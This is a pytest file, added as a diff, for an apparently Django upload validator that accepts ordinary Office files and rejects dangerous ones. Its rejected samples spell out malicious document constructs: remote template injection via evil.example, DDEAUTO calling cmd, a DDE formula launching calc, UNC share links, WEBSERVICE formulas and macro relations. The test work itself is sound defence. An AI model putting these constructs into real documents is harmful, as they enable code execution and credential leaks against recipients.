@@ -1,0 +1,114 @@
+"""Office files: told by their relations, and refused where anything is embedded, fetched or run."""
+
+import io
+import zipfile
+
+import pytest
+import xlsxwriter
+from django.core.exceptions import ValidationError
+
+from files import office, sandbox
+from files.tests.office_files import OFFICE, field, relation, relations
+from files.tests.office_files import office as made
+
+EVIL = "https://evil.example/x.dotm"
+OUTSIDE = 'TargetMode="External"'
+
+
+def examine(data):
+    return sandbox.run(office.examine_apart, data)[0][0]
+
+
+def workbook():
+    """Return what a library writes: formulas, an image-free chart, a link, a comment, a table."""
+    stream = io.BytesIO()
+    with xlsxwriter.Workbook(stream) as book:
+        sheet = book.add_worksheet("清单")
+        sheet.write_row(0, 0, ["名称", "数量"])
+        sheet.write_row(1, 0, ["变压器", 2])
+        sheet.write_formula(2, 1, '=SUM(B2:B2)&"|共"')
+        sheet.write_url(3, 0, "https://www.example.cn/")
+        sheet.write_comment(1, 1, "备注")
+        sheet.add_table(0, 0, 1, 1)
+        chart = book.add_chart({"type": "column"})
+        chart.add_series({"values": "=清单!$B$2:$B$2"})
+        sheet.insert_chart("D2", chart)
+    return stream.getvalue()
+
+
+PAGES = field(" PAG", "E ") + field(' HYPERLINK "https://www.example.cn/" \\h ') + field("= 1 + ", "2")
+HEADER = {"word/header1.xml": "<x/>", "word/media/image1.png": b"\x89PNG"}
+LEADS = relation("header", "header1.xml") + relation("image", "/word/media/image1.png")
+LINKS = relation("hyperlink", "https://www.example.cn/", OUTSIDE) + relation("hyperlink", "mailto:a@b.cn", OUTSIDE)
+
+
+@pytest.mark.parametrize(
+    ("data", "ending"),
+    [
+        (workbook(), "xlsx"),
+        (made(body=PAGES), "docx"),
+        (made(leads=LEADS + LINKS, **HEADER), "docx"),
+        (made("ppt/presentation.xml"), "pptx"),
+    ],
+    ids=["of a library", "fields", "header, image, links", "pptx"],
+)
+def test_up_24_what_people_write_is_taken(data, ending):
+    assert examine(data) == ending
+
+
+NAMES = (
+    "type after mode|utf-16|character references|image elsewhere|share|package|ole|chunk|left lying|other workbook"
+    "|renamed macros|macros by type|split ddeauto|referenced ddeauto|picture|nested|hyperlink to a share"
+    "|dde|web service|vml|entities|twice"
+)
+UTF16 = relations(relation("attachedTemplate", EVIL, OUTSIDE)).replace('"1.0"', '"1.0" encoding="UTF-16"')
+TYPE_LAST = f'<Relationship Id="r" TargetMode="External" Target="{EVIL}" Type="{OFFICE}/attachedTemplate"/>'
+REFERENCE = relation("oleObject", EVIL, 'TargetMode="&#69;xternal"').replace("oleO", "ole&#79;")
+PACKAGE = {"word/embeddings/a.xlsx": b"PK"}
+VBA = "http://schemas.microsoft.com/office/2006/relationships"
+NESTED = field("QUOTE 68 68 69").replace("QUOTE", "</w:instrText></w:r>" + field("QUOTE 68") + "<w:r><w:instrText>")
+
+
+@pytest.mark.parametrize(
+    ("data", "code"),
+    [
+        (made(leads=TYPE_LAST), "remote"),
+        (made(leads=UTF16.encode("utf-16")), "remote"),
+        (made(leads=REFERENCE), "remote"),
+        (made(leads=relation("image", "//evil.example/a.png", OUTSIDE)), "remote"),
+        (made(leads=relation("hyperlink", "file://evil.example/a", OUTSIDE)), "remote"),
+        (made(leads=relation("package", "embeddings/a.xlsx"), **PACKAGE), "embedded"),
+        (made(leads=relation("oleObject", "embeddings/a.bin"), **{"word/embeddings/a.bin": b"\xd0\xcf"}), "embedded"),
+        (made(leads=relation("aFChunk", "a.html"), **{"word/a.html": "<p/>"}), "embedded"),
+        (made(**PACKAGE), "embedded"),
+        (made("xl/workbook.xml", leads=relation("externalLink", "e.xml"), **{"xl/e.xml": "<x/>"}), "embedded"),
+        (made(leads=relation("vbaProject", "harmless.bin", namer=VBA), **{"word/harmless.bin": b"x"}), "macros"),
+        (made(types='<Override PartName="/a" ContentType="application/vnd.ms-office.vba&#80;roject"/>'), "macros"),
+        (made(body=field(" DDEAU", 'TO c:\\\\windows "cmd"')), "fields"),
+        (made(body=field("DDE&#65;UTO c")), "fields"),
+        (made(body='<w:fldSimple w:instr=" INCLUDEPICTURE &quot;x&quot; "/>'), "fields"),
+        (made(body=NESTED), "fields"),
+        (made(body=field('HYPERLINK "\\\\\\\\evil.example\\\\a"')), "fields"),
+        (made("xl/workbook.xml", body="<definedName>cmd|'/c calc'!A1</definedName>"), "fields"),
+        (made("xl/workbook.xml", body="<f>_xlfn.WEBSERVICE(A1)</f>"), "fields"),
+        (made(body='<v:imagedata xmlns:v="urn:v" src="https://evil.example/a"/>'), "remote"),
+        (made(leads=b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "damaged"),
+        (made(**{"WORD/document.xml": "<x/>"}), "damaged"),
+    ],
+    ids=NAMES.split("|"),
+)
+def test_up_24_nothing_embedded_fetched_or_run_is_taken(data, code):
+    with pytest.raises(ValidationError) as caught:
+        examine(data)
+
+    assert caught.value.code == code
+    assert any(remedy in caught.value.messages[0] for remedy in ("另存", "PDF"))
+
+
+def test_up_24_a_zip_archive_without_a_document_is_none():
+    stream = io.BytesIO()
+    with zipfile.ZipFile(stream, "w") as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+
+    with pytest.raises(ValidationError, match="只能发送"):
+        examine(stream.getvalue())
